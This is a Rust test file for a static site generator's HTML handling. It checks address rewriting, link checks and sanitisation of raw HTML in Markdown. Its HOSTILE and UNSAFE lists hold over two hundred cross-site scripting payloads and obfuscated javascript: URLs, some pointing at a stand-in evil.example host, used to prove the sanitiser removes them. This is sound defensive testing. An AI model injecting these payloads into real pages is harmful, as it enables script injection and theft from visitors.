//! Raw HTML in texts: its addresses, and what becomes of it by the settings and by `--untrusted`.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use html5gum::{DefaultEmitter, StartTag, Token, Tokenizer};
use primer::pipeline::{Analysis, analyze, update};
use proptest::prelude::*;

use crate::builder::{Primer, text_of, without_numbers};
use crate::properties::cases;

/// Faults are warnings, so that every page is made.
const LENIENT: &str = "[check]\nunsafe-link = \"warn\"\nbroken-link = \"warn\"\nbroken-anchor = \"warn\"\nmissing-asset = \"warn\"\nambiguous-link = \"warn\"\nduplicate-anchor = \"warn\"\n";

fn with(html: &str) -> Primer {
    Primer::new()
        .config(&format!(
            "[site]\nbase_url = \"https://example.org/sub/\"\n[markdown]\nhtml = \"{html}\"\n{LENIENT}"
        ))
        .page("terms/b.md", "B", "")
        .asset("content/terms/one.png", b"1")
        .asset("static/two.png", b"2")
        .asset("static/film.svg", b"<svg/>")
}

fn text(mode: &str, markdown: &str) -> String {
    with(mode)
        .page("terms/a.md", "A", markdown)
        .html("terms/a/index.html")
}

#[test]
fn every_address_is_rewritten() {
    let one = "/sub/terms/one.";
    let text = text(
        "keep",
        "<img src=\"one.png\" srcset=\"one.png 2x, /two.png 3x,https://example.com/a,b 4x\" alt=\"\">\n\n\
         <picture><source srcset=/terms/one.png media=\"(min-width: 40rem)\"></picture>\n\n\
         <object data=\"one.png\"></object> <form action=\"/terms/b\"><button formaction=b.md></button></form>\n\n\
         <q cite=\"b.md\">q</q> <a ping=\" /terms/b  b.md \" href=b.md>x</a> <svg><a XLINK:HREF='b.md'></a><use href=\"#x\"/><g id=\"x\"/></svg>\n\n\
         <table background=\"one.png\"></table>\n\n\
         <meta http-equiv=refresh content=\"5; url='/terms/b'\"><meta name=x content=\"5;url=/terms/b\">",
    );
    for part in [
        "srcset=\"/sub/terms/one.",
        ".png 2x, /sub/two.",
        ".png 3x,https://example.com/a,b 4x\" alt=\"\">",
        "<source srcset=\"/sub/terms/one.",
        "\" media=\"(min-width: 40rem)\">",
        "<object data=\"/sub/terms/one.png\">",
        "<form action=\"/sub/terms/b/\"><button formaction=\"/sub/terms/b/\">",
        "<q cite=\"/sub/terms/b/\">",
        "<a ping=\" /sub/terms/b/  /sub/terms/b/ \" href=\"/sub/terms/b/\">",
        "<a xlink:href=\"/sub/terms/b/\"></a><use href=\"#x\"/>",
        "<table background=\"/sub/terms/one.",
        "content=\"5; url='/sub/terms/b/'\"",
        "<meta name=x content=\"5;url=/terms/b\">",
    ] {
        assert!(text.contains(part), "no {part}\n{text}");
    }
    assert_eq!(text.matches(one).count(), 5, "{text}");
}

#[test]
fn every_address_is_checked_where_it_stands() {
    let primer = with("keep")
        .config("")
        .page(
            "terms/a.md",
            "A",
            "<img src=\"one.png\" srcset=\"one.png 2x, gone.png 3x\" alt=\"\">\n\n\
             > <object\n> data='gone.svg'></object> <form action=\"/gone\"></form>\n\n\
             <img srcset=\"one.png&#32;2x, g&#x6f;ne.png\" alt=\"\"> <q cite=\"#gone\">x</q>\n\n\
             <meta http-equiv=\"Refresh\" content=\"0;URL=/gone\"> <a href=\"b.md\" ping=\"/gone b.md\">x</a>\n",
        );
    let places = [
        "4:40: error[missing-asset]",
        "7:9: error[missing-asset]",
        "7:43: error[broken-link]",
        "9:14: error[missing-asset]",
        "9:62: error[broken-anchor]",
        "11:43: error[broken-link]",
        "11:72: error[broken-link]",
    ];
    let found = primer.check();
    let found = found
        .iter()
        .map(|line| line.strip_prefix("content/terms/a.md:").unwrap());
    let found: Vec<&str> = found.map(|line| line.split(": ").next().unwrap()).collect();
    let places: Vec<&str> = places
        .iter()
        .map(|place| place.split(": ").next().unwrap())
        .collect();
    assert_eq!(found, places, "{:#?}", primer.check());
}

#[test]
fn an_address_that_does_not_hold_is_left_out_with_its_attribute() {
    for (written, shown) in [
        (
            "<a href=\"\">x</a> <img src='' alt=\"\">",
            "<a href=\"\">x</a> <img src='' alt=\"\">",
        ),
        ("<a id=\"i\" href>x</a>", "<a id=\"i\" href>x</a>"),
        (
            "<a title=t href = 'javascript:x'>x</a>",
            "<a title=t >x</a>",
        ),
        ("<a href=vbscript:x>x</a>", "<a >x</a>"),
        (
            "<img srcset=\"data:text/html,x 2x, /two.png 3x\">",
            "<img srcset=\", /sub/two.",
        ),
        ("<img srcset=\"blob:x 1x,\" alt>", "<img  alt>"),
        (
            "<i><meta http-equiv=refresh content=\"0;url=data:x\"></i>",
            "<meta http-equiv=refresh >",
        ),
    ] {
        let text = text("keep", &format!("p {written}"));
        assert!(text.contains(shown), "{written}\n{text}");
    }
}

#[test]
fn what_is_not_followed_is_no_mention() {
    let primer = with("keep").page(
        "terms/a.md",
        "A",
        "<form action=\"b.md\"></form> <form action=\"a.md\"></form>",
    );
    assert!(!primer.output("terms/b/index.html").contains("Mentioned in"));
    assert!(
        !primer
            .check()
            .iter()
            .any(|line| line.contains("self-reference"))
    );
}

/// HTML that runs code, or leads to some, where a browser lets it.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script src=//evil.example/x.js",
    "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
    "<ScRiPt>a</sCrIpT><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' alt='`' onerror='alert(1)//`'>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img srcset=\"javascript:alert(1) 1x, x 2x\">",
    "<img src=x alt=\"&quot; onerror=alert(1) x=&quot;\">",
    "<img src=x title=\"a>b\" onload=alert(1)>",
    "<img src onerror=alert(1) ",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background=\"javascript:alert(1)\"><td background=javascript:alert(1)>x",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x codebase=//evil.example/></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=https://evil.example/><input name=password type=password autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=https://evil.example/x.js></layer>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"\tjava\nscript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#10ascript:alert(1)\">x</a>",
    "<a href=\"jav&Tab;ascript&colon;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"\u{1}\u{2}javascript:alert(1)\">x</a>",
    "<a href=\"\u{a0}javascript:alert(1)\">x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html,x\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"blob:https://example.org/x\">x</a>",
    "<a href=x id=\"y\" onmouseover=alert(1)>x</a>",
    "<a href=x style=\"position:fixed;inset:0\">x</a>",
    "<a href=https://evil.example/ target=opener>x</a>",
    "<a href=\"//evil.example/\">x</a> <a href=\"/\\evil.example/\">x</a> <a href=\"\\/evil.example\">x</a>",
    "<a href=\"https:evil.example\">x</a> <a href=\"https:/evil.example\">x</a> <a href=htps://evil.example>x</a>",
    "<a href=\"/\t/evil.example\">x</a>",
    "<a ping=https://evil.example/ href=x>x</a>",
    "<a href=\"x\nhref=javascript:alert(1)",
    "<a\u{c}href=javascript:alert(1)>x</a>",
    "<a/href/=/javascript:alert(1)>x</a>",
    "<a href=x href=javascript:alert(1)>x</a>",
    "<a href=\"javascript:alert(1)\" href=x>x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<div onclick=alert(1) class=\"x\">x</div>",
    "<div data-bind=\"html:x\" is=x-y slot=x contenteditable>x</div>",
    "<xss onclick=alert(1)>x</xss>",
    "<x-y><script>alert(1)</script></x-y>",
    "</div></main><h1>x</h1>",
    "</div></div></article></main></body></html><script>alert(1)</script>",
    "<ul><li><div><li></div></div>x",
    "<dl><dt><div><dd></div></div>x",
    "<table><tr><td><div><tr></div></div></table></div>x",
    "<p><div></p></div></div>",
    "<b><a href=x><b></a></b><p></b></div>",
    "<table><a href=x>[<td></a></table>",
    "<table>\n\n| a |\n|---|\n| b |\n\n</table></div>",
    "<dt><div>\n\n> [!NOTE] <dd>\n\n</div></div>",
    "<h2><section><h2><h2></h2></h2></section></h2></div>x",
    "<h2><div>\n\n## x <h3>y</h3>\n\n</div></h2></div>",
    "<tr><td>x</td></tr><li>y</li><dd>z</dd>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- <img src=x onerror=alert(1)>",
    "<!doctype html><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
    "<? foo=\"><script>alert(1)</script>\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<! foo=\"[[[Inception]]\"><x foo=\"]foo><script>alert(1)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><style></noframes><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img alt=\"<script>alert(1)</script>\" src=x>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</p>",
    "<p id=\"x onclick=alert(1)\">x</p>",
    "<p aria-label=\"x\" aria-x:y=z onaria=alert(1)>x</p>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](<java&#10;script:alert(1)>) [x](&#1;javascript:alert(1)) [x](//evil.example)",
    "![x](https://evil.example/x.png) https://evil.example/x [[<img src=x onerror=alert(1)>]]",
    "[x](https://evil.example \"\\\"><script>alert(1)</script>\")",
    "# <img src=x onerror=alert(1)> {#x .\"onclick=alert(1)}",
    "```\"><script>alert(1)</script>\n</code><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    "*<script>*alert(1)*</script>*",
    "<script>\n\nalert(1)\n\n</script>",
    "<div><script>\n\nalert(1)\n\n- a </script>\n- b\n\n</div>",
    "<div title=\"\n\n\"><script>alert(1)</script>",
    "<svg>\n\n<script>alert(1)</script>\n\n</svg>\n\n<img src=x onerror=alert(1)>",
];

/// Places in a primer where a text can stand.
const PLACES: &[&str] = &[
    "---\ntitle: A\n---\n{}",
    "---\ntitle: A\n---\nBefore {} behind",
    "---\ntitle: A\n---\n## {} x\n\n> - {}\n>\n>   {}",
    "---\ntitle: A\n---\n| a | b |\n|---|---|\n| {} | *{}* |",
    "---\ntitle: A\n---\nx[^1]\n\n[^1]: {}\n\n    {}\n\nt\n: {}",
    "---\ntitle: A\n---\n> [!NOTE] {}\n> {}\n\n> [!TIP]\n> {}",
    "---\ntitle: A\n---\n**[{}](/terms/b)** ![{}](/two.png \"{}\") ~~{}~~",
    "---\ntitle: A\n---\n<div>\n{}\n</div>\n\n<p>{}\n\n{}",
    "+++\ntitle = '''{}'''\nterm = '''{}'''\ndescription = '''{}'''\ncategory = '''{}'''\ntags = ['''{}''']\naliases = ['''{}''']\nwords = '''{}'''\nsource = '''{}'''\n+++\n# {}\n",
];

/// Every hostile text at every place; the places of the front matter only for texts of one line.
fn hostile(mode: &str) -> Primer {
    let mut primer = with(mode);
    let config = primer.inputs.config.clone().unwrap();
    primer = primer.config(&format!("{}wrong-type = \"warn\"\ninvalid-alias = \"warn\"\nduplicate-name = \"warn\"\n[fields]\nwords = \"text\"\nsource = \"url\"\n", config.text));
    for (number, text) in HOSTILE.iter().enumerate() {
        for (place, around) in PLACES.iter().enumerate() {
            if around.starts_with("+++")
                && (text.contains('\n') || text.contains("'''") || text.contains(char::is_control))
            {
                continue;
            }
            primer = primer.entry(
                &format!("terms/h-{number}-{place}.md"),
                &around.replace("{}", text),
            );
        }
    }
    primer
}

fn tokens(html: &str) -> Vec<Token> {
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    Tokenizer::new_with_emitter(html, emitter)
        .flatten()
        .collect()
}

fn name(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// What HTML that only shows something is made of, with what the program itself writes.
static ELEMENTS: LazyLock<BTreeSet<&str>> = LazyLock::new(|| {
    "a abbr address article aside audio b bdi bdo big blockquote br caption center cite code col colgroup data dd del \
     details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li mark nav ol p \
     picture pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead \
     time tr track tt u ul var video wbr input"
        .split(' ')
        .filter(|name| !name.is_empty())
        .collect()
});

static ATTRIBUTES: LazyLock<BTreeSet<&str>> = LazyLock::new(|| {
    "abbr align alt cite class colspan controls datetime decoding default dir download headers height href hreflang id kind \
     label lang loading loop media muted name open playsinline poster preload rel reversed role rowspan scope sizes span \
     src srclang srcset start tabindex title translate type valign value width"
        .split(' ')
        .filter(|name| !name.is_empty())
        .collect()
});

/// Elements that end by themselves.
const IMPLIED: &[&str] = &[
    "p", "li", "dt", "dd", "td", "th", "tr", "thead", "tbody", "tfoot", "colgroup", "rt", "rp",
];
const VOID: &[&str] = &["br", "col", "hr", "img", "input", "source", "track", "wbr"];

/// What a browser makes of an address.
fn scheme(address: &str) -> Option<String> {
    let address: String = address
        .trim_matches(|letter: char| letter <= ' ')
        .chars()
        .filter(|letter| !matches!(letter, '\t' | '\n' | '\r'))
        .collect();
    let (scheme, _) = address.split_once(':')?;
    let is_scheme = scheme.starts_with(|letter: char| letter.is_ascii_alphabetic())
        && scheme
            .chars()
            .all(|letter| letter.is_ascii_alphanumeric() || "+-.".contains(letter));
    is_scheme.then(|| scheme.to_ascii_lowercase())
}

fn addresses(tag: &StartTag<()>) -> Vec<String> {
    let mut found = Vec::new();
    for (attribute, value) in &tag.attributes {
        let value = name(value);
        match &*name(attribute) {
            "href" | "src" | "poster" | "cite" => found.push(value),
            "srcset" => found.extend(
                value
                    .split(", ")
                    .map(|part| part.trim().split(' ').next().unwrap().to_owned()),
            ),
            _ => {}
        }
    }
    found
}

/// Says what is wrong with the text of a page that must show something and do nothing.
fn check_safe(html: &str, is_trusted: bool) -> Result<(), String> {
    let mut open: Vec<String> = Vec::new();
    for token in tokens(html) {
        match token {
            Token::StartTag(tag) => {
                let element = name(&tag.name);
                if !ELEMENTS.contains(&*element) {
                    return Err(format!("the element {element}"));
                }
                for (attribute, value) in &tag.attributes {
                    let (attribute, value) = (name(attribute), name(value));
                    let is_own = match &*attribute {
                        "style" => {
                            value.starts_with("text-align: ") && matches!(&*element, "td" | "th")
                        }
                        "checked" | "disabled" => element == "input",
                        attribute => {
                            ATTRIBUTES.contains(attribute) || attribute.starts_with("aria-")
                        }
                    };
                    if !is_own {
                        return Err(format!("{attribute}=\"{value}\" of {element}"));
                    }
                }
                for address in addresses(&tag) {
                    let is_image = element != "a" && address.starts_with("data:image/");
                    let is_known = match scheme(&address).as_deref() {
                        None => is_trusted || !address.replace('\\', "/").starts_with("//"),
                        Some("mailto" | "tel" | "sms") => true,
                        Some("http" | "https" | "irc") => is_trusted,
                        Some(_) => is_image,
                    };
                    if !is_known {
                        return Err(format!("the address {address}"));
                    }
                }
                check_place(&open, &element)?;
                if !VOID.contains(&&*element) {
                    open.push(element);
                }
            }
            Token::EndTag(tag) => {
                let element = name(&tag.name);
                let end = open.iter().rposition(|open| *open == element);
                let end = end.ok_or_else(|| format!("a second end of {element}"))?;
                if let Some(inner) = open[end + 1..]
                    .iter()
                    .find(|open| !IMPLIED.contains(&&***open))
                {
                    return Err(format!("{inner} goes on behind {element}"));
                }
                open.truncate(end);
            }
            Token::String(_) => {}
            // Markdown resolves character references to those too.
            Token::Error(error)
                if error.value == html5gum::Error::ControlCharacterInInputStream => {}
            Token::Error(error) => return Err(format!("{error:?}")),
            Token::Comment(_) | Token::Doctype(_) => return Err("a comment".to_owned()),
        }
    }
    match open.iter().find(|open| !IMPLIED.contains(&&***open)) {
        Some(open) => Err(format!("{open} does not end")),
        None => Ok(()),
    }
}

/// Says whether a browser would end what is open where an element starts, or move it elsewhere: a later end tag would
/// then end something else.
fn check_place(open: &[String], element: &str) -> Result<(), String> {
    let last = open.last().map_or("", |last| last.as_str());
    let parents: &[&str] = match element {
        "caption" | "colgroup" | "thead" | "tbody" | "tfoot" => &["table"],
        "col" => &["table", "colgroup"],
        "tr" => &["table", "thead", "tbody", "tfoot"],
        "td" | "th" => &["tr"],
        _ => &[],
    };
    let is_row = ["table", "colgroup", "thead", "tbody", "tfoot", "tr"].contains(&last);
    let is_heading = |name: &str| name.len() == 2 && name.starts_with('h') && name != "hr";
    let lists: &[&str] = match element {
        "li" => &["ul", "ol"],
        "dt" | "dd" => &["dl"],
        _ => &[],
    };
    let is_bound =
        |open: &&String| lists.contains(&&***open) || ["td", "th", "caption"].contains(&&***open);
    let around = open.iter().rev().find(is_bound);
    let is_listed = lists.is_empty() || around.is_some_and(|around| lists.contains(&&**around));
    let is_in_place = if parents.is_empty() {
        !is_row
    } else {
        parents.contains(&last)
    };
    if is_in_place && is_listed && !(is_heading(element) && is_heading(last)) {
        Ok(())
    } else {
        Err(format!("{element} in {open:?}"))
    }
}

/// Every page but for its text is that of the theme: of its elements, whatever stands in titles and fields.
fn check_theme(page: &str) -> Result<(), String> {
    for token in tokens(page) {
        let Token::StartTag(tag) = token else {
            continue;
        };
        let element = name(&tag.name);
        let of_page = [
            "html", "head", "meta", "title", "link", "body", "main", "label", "select", "option",
            "form", "input", "button", "noscript", "svg", "g", "path", "rect", "text",
        ];
        let kind = tag
            .attributes
            .get(b"type".as_slice())
            .map(|kind| name(kind));
        let src = tag.attributes.get(b"src".as_slice());
        let is_own = src.is_some_and(|src| {
            let src = name(src);
            let file = src.strip_prefix("/sub").unwrap_or(&src);
            file.starts_with("/site.") || file.starts_with("/redirect.")
        });
        let is_script = is_own || kind.as_deref() == Some("application/ld+json");
        let is_data = element == "script" && is_script;
        if !(ELEMENTS.contains(&*element) || of_page.contains(&&*element) || is_data) {
            return Err(format!("the element {element}"));
        }
        if let Some(attribute) = tag.attributes.keys().find(|key| key.starts_with(b"on")) {
            return Err(format!("the handler {}", name(attribute)));
        }
    }
    Ok(())
}

#[test]
fn nothing_hostile_passes() {
    for (mode, is_trusted) in [
        ("safe", true),
        ("keep", false),
        ("escape", true),
        ("escape", false),
    ] {
        let mut primer = hostile(mode);
        primer.inputs.options.untrusted = !is_trusted;
        let build = primer.build();
        let files = build
            .files
            .unwrap_or_else(|| panic!("{}", crate::builder::full_report(&build.analysis)));
        let mut pages = 0;
        for file in &files {
            if !file.path.ends_with("index.html") {
                continue;
            }
            let page = std::str::from_utf8(&file.bytes).unwrap();
            let what = |fault: String| panic!("{mode}, {}: {fault}\n{page}", file.path);
            check_theme(page).unwrap_or_else(what);
            if file.path.starts_with("terms/h-") {
                check_safe(text_of(page), is_trusted).unwrap_or_else(what);
                pages += 1;
            }
            if !is_trusted {
                assert!(
                    !page.contains("href=\"https://evil") && !page.contains("src=\"https://evil"),
                    "{page}"
                );
            }
        }
        assert!(pages > HOSTILE.len() * 6, "{pages}");
    }
}

/// Spellings of addresses that browsers take for code or a document, in HTML and in Markdown.
const UNSAFE: &[&str] = &[
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<A HREF=\"JAVASCRIPT:alert(1)\">x</A>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\tjavascript:alert(1)\">x</a>",
    "<a href=\"\njavascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"&#x1fjavascript:alert(1)\">x</a>",
    "<a href=\"&#32;&#8;javascript:alert(1)\">x</a>",
    "<a href=\"\u{7}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\r\nscript:alert(1)\">x</a>",
    "<a href=\"javascript\t:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java&#09script:alert(1)\">x</a>",
    "<a href=\"java&#xA;script:alert(1)\">x</a>",
    "<a href=\"java&#x0D;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"javascript&#58alert(1)\">x</a>",
    "<a href=\"javascript&#x3a;alert(1)\">x</a>",
    "<a href=\"javascript&#x0003Ax\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#106avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"&#X6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;x\">x</a>",
    "<a\nhref =\n'javascript:alert(1)'>x</a>",
    "<a/href=javascript:alert(1)>x</a>",
    "<a class=\"y\"href=\"javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<a href=\"data:image/svg+xml,x\">x</a>",
    "<a href=\"da\tta:text/html,x\">x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://example.org/x>x</a>",
    "<area href=javascript:alert(1)>",
    "<base href=javascript:x>",
    "<link rel=stylesheet href=data:text/css,x>",
    "<img src=javascript:alert(1)>",
    "<img src=data:text/html,x>",
    "<img srcset=javascript:alert(1)>",
    "<img srcset=\"/two.png 1x, javascript:alert(1) 2x\">",
    "<img srcset=\"/two.png, &#106;avascript:x\">",
    "<source srcset=data:text/html,x>",
    "<link rel=preload imagesrcset=data:text/html,x>",
    "<video poster=javascript:x></video>",
    "<audio src=vbscript:x></audio>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=data:image/svg+xml,x></iframe>",
    "<embed src=data:text/html,x>",
    "<object data=data:image/svg+xml,x></object>",
    "<object data=javascript:x></object>",
    "<form action=javascript:alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=submit formaction=' javascript:alert(1)'>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><A XLINK:HREF=\"java&Tab;script:x\">x</A></svg>",
    "<svg><use href=data:image/svg+xml,x></use></svg>",
    "<math xlink:href=javascript:x>x</math>",
    "<body background=javascript:x>",
    "<table background=vbscript:x></table>",
    "<blockquote cite=javascript:x>x</blockquote>",
    "<a ping='/terms/b javascript:x'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:x'>",
    "<meta http-equiv=REFRESH content='0, URL = \"data:text/html,x\"'>",
    "<meta content=\"0 javascript:x\" http-equiv=\"Refresh\">",
    "[x](javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](<java&Tab;script:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "<javascript:alert(1)>",
    "![x](data:text/html,x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
];

#[test]
fn every_spelling_of_an_unsafe_address_is_reported() {
    for text in UNSAFE {
        for around in ["{}", "> - a {}", "<div>\n{}\n</div>"] {
            let is_markdown = text.starts_with(['[', '!']) || text.starts_with("<javascript");
            if text.contains('\n') && around.contains('>') || is_markdown && around.contains("div")
            {
                continue;
            }
            let written = around.replace("{}", text);
            let primer = Primer::new().page("terms/b.md", "B", "");
            let primer = primer.asset("static/two.png", b"2");
            let primer = primer.page("terms/a.md", "A", &written);
            if primer
                .clone()
                .config(LENIENT)
                .html("terms/a/index.html")
                .contains("&lt;")
            {
                // Markdown takes it for text.
                continue;
            }
            let found = primer.check();
            let is_reported = found.iter().any(|line| line.contains("[unsafe-link]"));
            assert!(is_reported, "{written}\n{found:?}");
        }
    }
}

#[test]
fn fine_addresses_are_not_unsafe() {
    let text = "<a href=\"/?q=javascript:x\">1</a> <a href=\"#javascript:x\">2</a> <img src=\"data:image/png;base64,AA==\" \
                srcset=\"data:image/png;base64,AA== 2x\"> <a href=\"mailto:a@example.org\">3</a> <a href=\"foo:bar\">4</a> \
                <button onclick=\"x()\">5</button> <meta name=x content=\"0;url=javascript:x\"> <x-y data=\"javascript:x\" action=\"javascript:x\">6</x-y>";
    let found = Primer::new().page("terms/a.md", "A", text).check();
    assert!(
        !found.iter().any(|line| line.contains("unsafe")),
        "{found:?}"
    );
}

#[test]
fn safe_html_shows_what_texts_need() {
    for (written, shown) in [
        (
            "a <B>b</b> <Kbd ID=k>c</kbd>",
            "a <b>b</b> <kbd id=\"k\">c</kbd>",
        ),
        (
            "H<sub>2</sub>O &amp; <abbr title=\"a &amp; b\">ab</abbr>",
            "H<sub>2</sub>O &amp; <abbr title=\"a &amp; b\">ab</abbr>",
        ),
        (
            "<details open>\n<summary>S</summary>\n\n- *a*\n\n</details>",
            "<details open=\"\">\n<summary>S</summary>\n<ul>\n<li><em>a</em></li>\n</ul>\n</details>",
        ),
        (
            "<img src='/two.png' srcset='/two.png 2x' width=3 alt='\"'>",
